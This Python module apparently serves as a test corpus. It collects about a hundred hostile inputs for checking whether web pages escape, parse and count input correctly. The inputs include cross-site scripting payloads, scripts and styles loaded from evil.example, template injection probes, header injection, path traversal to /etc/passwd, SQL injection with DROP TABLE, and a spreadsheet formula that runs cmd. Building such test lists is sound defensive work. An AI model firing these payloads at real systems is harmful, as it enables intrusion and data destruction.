"""A hundred texts that break pages which do not escape, parse or count as they should."""

from __future__ import annotations

_JS = "alert(1)"
# Markup and handlers; the addresses that scripts hide in; what ends a string, a comment, an attribute, a script.
_MARKUP = [
    f"<script>{_JS}</script>", f"<ScRiPt>{_JS}</sCrIpT>", "<script src=//evil.example/x.js></script>",
    f"</script><script>{_JS}</script>", f"<<script>{_JS}//<</script>", f"<script\n>{_JS}</script\n>",
    f"<scr<script>ipt>{_JS}</scr</script>ipt>", f"<script>/*{_JS}", f"<!--><script>{_JS}</script>-->",
    f"<![CDATA[<script>{_JS}</script>]]>", f"<img src=x onerror={_JS}>", f"<img src=x onerror='{_JS}'",
    f"<IMG SRC=x OnErRoR=\"{_JS}\">", f"<image src=x onerror={_JS}>", f"<img/src/onerror={_JS}>",
    f"<img src=`x` onerror=`{_JS}`>", f"<img \x09onerror={_JS} src=x>", f"<body onload={_JS}>",
    f"<svg onload={_JS}>", f"<svg/onload={_JS}//", f"<svg><script>{_JS}</script></svg>",
    f"<svg><animate onbegin={_JS} attributeName=x dur=1s>", f"<svg><a xlink:href='javascript:{_JS}'><text>x</text></a>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{_JS}'/>#x\">", f"<math href='javascript:{_JS}'>x</math>",
    f"<iframe src='javascript:{_JS}'></iframe>", f"<iframe srcdoc='<script>{_JS}</script>'></iframe>",
    f"<object data='javascript:{_JS}'></object>", f"<embed src='javascript:{_JS}'>", f"<details open ontoggle={_JS}>",
    f"<video><source onerror={_JS}></video>", f"<audio src=x onerror={_JS}>", f"<input autofocus onfocus={_JS}>",
    f"<select onfocus={_JS} autofocus>", f"<textarea autofocus onfocus={_JS}></textarea>", f"<marquee onstart={_JS}>",
    f"<form action='javascript:{_JS}'><button>x</button></form>", f"<button formaction='javascript:{_JS}'>x</button>",
    f"<a href='javascript:{_JS}'>x</a>", f"<a href='java\tscript:{_JS}'>x</a>", "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>", "<style>*{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>", "<div style='background:url(javascript:alert(1))'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<xmp><script>alert(1)</script></xmp>",
    f"\" onmouseover=\"{_JS}", f"' onmouseover='{_JS}", f"\"><script>{_JS}</script>", f"'><img src=x onerror={_JS}>",
    f"` onmouseover={_JS}", f"--><script>{_JS}</script>", f"]]><script>{_JS}</script>", f"*/{_JS}/*", f"';{_JS};//",
    f"\";{_JS};//", "\\\";alert(1);//", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
]  # fmt: skip
_ADDRESSES = [
    f"javascript:{_JS}", f"JaVaScRiPt:{_JS}", f" javascript:{_JS}", f"java\nscript:{_JS}", f"\x01javascript:{_JS}",
    f"data:text/html,<script>{_JS}</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.example/",
    "https://a.example/\"onmouseover=alert(1)", "http://[::1", "https://a.example@evil.example/",
]  # fmt: skip
_TEMPLATES = [
    "{{7*7}}",
    "{% raw %}{{7*'7'}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{''.__class__.__mro__}}",
    "%(x)s %n {0}",
]
_LETTERS = [
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>", "a\x00<script>alert(1)</script>", "\u202etxt.exe\u202c",
    "\ufeff\u200b\u2028\u2029<script>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\U0001f4a5" * 50,
    "e" + "\u0301" * 500, "A" * 200_000, "<" * 5_000,
]  # fmt: skip
_QUERIES = [
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "' OR 1=1 --", "'; DROP TABLE report; --",
    '" OR title:* NEAR/2 (a b) ^ * AND NOT', "((((((((((\"", "*" * 200, "%_%_%_%'", "=cmd|' /C calc'!A0",
]  # fmt: skip

ATTACKS: tuple[str, ...] = (*_MARKUP, *_ADDRESSES, *_TEMPLATES, *_LETTERS, *_QUERIES)
